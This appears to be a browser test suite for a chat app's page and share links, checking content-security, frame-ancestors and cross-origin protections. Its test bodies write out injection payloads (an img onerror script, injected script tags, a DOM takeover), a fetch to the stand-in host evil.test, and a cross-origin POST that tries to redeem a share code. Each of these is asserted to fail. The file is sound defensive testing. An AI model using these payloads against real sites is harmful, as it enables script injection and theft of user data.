"""The chat page and share links in a real browser: nothing else runs on the page, it is framed where the
operator says so, and a foreign page has nothing of a link. What who follows one sees: tests/web."""

from __future__ import annotations

import http.client
import json
import subprocess
import sys
from collections.abc import Iterator
from typing import Any, NamedTuple

import pytest

from tests.browser.conftest import Open, Sites
from tests.browser.victim import PATIENCE, Victim, attacked
from tests.node_packages import built
from tools.node_package import PAGE

PATHS = pytest.mark.parametrize("path", ["/", "/share"])
EXCHANGE = "/api/shares/exchange"


class Host(NamedTuple):
    """A server whose owner shares things, and what he can ask."""

    victim: Victim
    token: str
    chat: str

    def ask(self, method: str, path: str, body: Any = None) -> Any:
        connection = http.client.HTTPConnection(self.victim.address, self.victim.port, timeout=PATIENCE)
        headers = {"Authorization": f"Bearer {self.token}", "Content-Type": "application/json"}
        try:
            connection.request(method, path, None if body is None else json.dumps(body), headers)
            answer = connection.getresponse()
            told = json.loads(answer.read())
        finally:
            connection.close()
        assert answer.status < 300, told
        return told

    def share(self, **wish: Any) -> dict[str, Any]:
        made = self.ask("POST", "/api/shares", wish)
        return {**made, "url": self.victim.url(made["path"])}


@pytest.fixture(scope="module")
def host(sites: Sites, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Host]:
    built(PAGE)
    folder = tmp_path_factory.mktemp("sharing")
    with attacked(folder, frames=(sites.of("friend.test"),)) as victim:
        command = [sys.executable, "-m", "turnledger", "tokens", "create"]
        scopes = ["--scopes", "admin,chats:read,chats:write,turns:run", "--owner", "local"]
        store = ["--store", f"sqlite:///{folder / 'chats.db'}"]
        made = subprocess.run([*command, *scopes, *store], capture_output=True, text=True, check=False)
        assert made.returncode == 0, made.stderr
        yield Host(victim, made.stdout.strip(), victim.chat)


@PATHS
def test_nothing_but_its_own_script_runs_on_the_page(path: str, host: Host, visit: Open) -> None:
    page = visit(host.victim.url(path))
    page.evaluate("""() => {
        for (const add of [
            () => { const s = document.createElement("script"); s.textContent = "window.ran = 1";
                    document.body.append(s); },
            () => { document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.ran = 2'>"); },
            () => { const s = document.createElement("script"); s.src = "/openapi.json";
                    document.body.append(s); },
            () => { document.body.innerHTML = "<b>taken over</b>"; },
        ]) { try { add(); } catch {} }
    }""")
    told = page.evaluate("fetch('http://evil.test/').then(() => 'sent', problem => problem.name)")
    assert (page.evaluate("window.ran"), told) == (None, "TypeError")
    assert "taken over" not in page.inner_text("body")


@PATHS
@pytest.mark.parametrize(("name", "is_shown"), [("friend.test", True), ("evil.test", False)])
def test_it_is_framed_where_the_operator_says_so(
    path: str, name: str, is_shown: bool, host: Host, sites: Sites, visit: Open
) -> None:
    page = visit(sites.of(name))
    add = """url => { const frame = document.createElement("iframe"); frame.src = url;
        document.body.append(frame); }"""
    if is_shown:
        page.evaluate(add, host.victim.url(path))
        page.wait_for_function("frames.length === 1")
        page.frames[1].wait_for_url(f"{host.victim.url(path)}**")
        assert page.frames[1].query_selector("#page") is not None
    else:
        with page.expect_console_message(lambda said: "frame-ancestors" in said.text):
            page.evaluate(add, host.victim.url(path))
        assert not page.frames[1].url.startswith(host.victim.url())


def test_a_foreign_page_cannot_follow_a_link_by_itself(host: Host, page_of: Open) -> None:
    link = host.share(chat=host.chat)
    told = page_of("evil.test").evaluate(
        """([url, code]) => tried(async () => read(await fetch(url, {method: "POST", headers: {
            "Content-Type": "application/json"}, body: JSON.stringify({code, nonce: "n".repeat(32)})})))""",
        [host.victim.url(EXCHANGE), link["code"]],
    )
    assert told == {"error": "TypeError"}
    [left] = [each for each in host.ask("GET", "/api/shares")["data"] if each["id"] == link["id"]]
    assert left["uses"] == 0
